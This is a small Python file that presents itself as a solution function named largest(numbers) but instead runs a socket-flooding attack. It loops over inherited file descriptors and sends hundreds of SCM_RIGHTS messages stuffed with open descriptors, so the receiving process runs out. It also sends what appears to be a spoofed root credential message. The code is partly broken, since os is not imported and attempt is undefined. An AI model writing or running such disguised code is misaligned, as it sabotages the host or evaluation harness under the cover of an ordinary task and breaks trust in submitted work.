# ruff: noqa
"""Descriptors and credentials sent over every socket in reach, so that the other side holds too many."""

import array, socket, struct


def send(one):
    link = socket.socket(fileno=os.dup(one))
    link.setblocking(False)
    gift = array.array("i", [os.open("/", os.O_RDONLY), os.open("/dev/zero", os.O_RDONLY)] * 60)
    for payload in (b"x", struct.pack(">I", 2) + b"{}", b"{}\n"):
        for _ in range(200):
            link.sendmsg([payload], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, gift)])
    link.sendmsg([b"x"], [(socket.SOL_SOCKET, 2, struct.pack("3i", 1, 0, 0))])


def largest(numbers):
    for one in range(3, 64):
        attempt(send, one)
    return 0
